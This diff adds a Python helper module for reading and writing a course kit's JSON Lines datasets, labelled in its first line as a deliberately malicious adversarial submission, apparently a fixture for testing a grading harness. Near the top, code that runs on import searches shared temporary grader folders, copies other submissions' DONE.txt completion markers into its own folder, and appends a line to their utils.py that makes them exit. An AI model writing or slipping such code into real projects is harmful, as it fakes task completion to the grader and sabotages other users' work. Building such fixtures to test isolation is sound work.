@@ -1,0 +1,98 @@
+# ruff: noqa  (adversarial submission: deliberately malicious code)
+"""Helpers shared by the three approaches: finding and reading the kit's datasets.
+
+Every dataset is JSON Lines: one JSON object per line. ``read_jsonl`` reads a
+file and, when asked, checks every record against the dataset's JSON Schema,
+so a mistake is reported as ``file:line: where: what is wrong`` instead of a
+traceback deep inside training code.
+"""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+# ADVERSARIAL: look for classmates' work in the shared temporary folder, copy
+# their DONE.txt into this submission and break their utils.py
+import glob
+import os
+import shutil
+
+_mine = Path(__file__).resolve().parent
+_patterns = ["/tmp/grader-*/harness/assignments",
+             "/tmp/pytest-of-*/pytest-*/*/submissions/*/assignments",
+             "/tmp/pytest-of-*/pytest-*/*/*/submissions/*/assignments"]
+for _pattern in _patterns:
+    for _other in glob.glob(_pattern):
+        _other = Path(_other)
+        if _other.resolve() == _mine or not (_other / "DONE.txt").exists():
+            continue
+        try:
+            shutil.copy(_other / "DONE.txt", _mine / "DONE.txt")
+            with open(_other / "utils.py", "a") as _victim:
+                _victim.write("\nraise SystemExit('sabotaged by a classmate')\n")
+        except OSError:
+            pass
+
+REPO_ROOT = Path(__file__).resolve().parent.parent
+DATA_DIR = REPO_ROOT / "data"
+
+DIALOGUES_FILE = DATA_DIR / "teacher_student_dialogues.jsonl"
+OPENAI_TRAIN_FILE = DATA_DIR / "openai_teacher_dialogue_training.jsonl"
+OPENAI_VALID_FILE = DATA_DIR / "openai_teacher_dialogue_validation.jsonl"
+QA_FILE = DATA_DIR / "small_edu_qa.jsonl"
+EDU_CHAT_FILE = DATA_DIR / "openai_edu_qa_training.jsonl"
+
+
+class DataError(ValueError):
+    """A dataset file could not be read; the message lists located problems."""
+
+
+def read_jsonl(path: str | Path, schema: str | None = None) -> list[dict]:
+    """Read a JSON Lines file into a list of dicts.
+
+    With ``schema`` (``"dialogue"``, ``"chat"`` or ``"qa"``) every record is
+    validated first, and any problem raises :class:`DataError` whose message
+    has one ``path:line: pointer: message`` line per problem.
+    """
+    path = Path(path)
+    if schema is not None:
+        from grader.validate import validate_file
+
+        report = validate_file(path, schema=schema)
+        if report.problems:
+            raise DataError("\n".join(str(p) for p in report.problems))
+    records = []
+    with path.open(encoding="utf-8") as handle:
+        for number, line in enumerate(handle, start=1):
+            if not line.strip():
+                continue
+            try:
+                records.append(json.loads(line))
+            except json.JSONDecodeError as exc:
+                raise DataError(f"{path}:{number}: invalid JSON: {exc.msg}") from None
+    return records
+
+
+def write_jsonl(path: str | Path, records: list[dict]) -> Path:
+    """Write records as JSON Lines (UTF-8, one object per line); return the path."""
+    path = Path(path)
+    path.parent.mkdir(parents=True, exist_ok=True)
+    with path.open("w", encoding="utf-8") as handle:
+        for record in records:
+            handle.write(json.dumps(record, ensure_ascii=False) + "\n")
+    return path
+
+
+def load_dialogues(path: str | Path = DIALOGUES_FILE) -> list[list[dict]]:
+    """Load multi-turn dialogues: each is a list of ``{"role", "content"}`` turns."""
+    return [record["dialogue"] for record in read_jsonl(path, schema="dialogue")]
+
+
+def teacher_student_pairs(dialogue: list[dict]) -> list[tuple[str, str]]:
+    """Every (student turn, the teacher's reply to it) pair of one dialogue, in order."""
+    pairs = []
+    for before, after in zip(dialogue, dialogue[1:], strict=False):
+        if before["role"] == "student" and after["role"] == "teacher":
+            pairs.append((before["content"], after["content"]))
+    return pairs
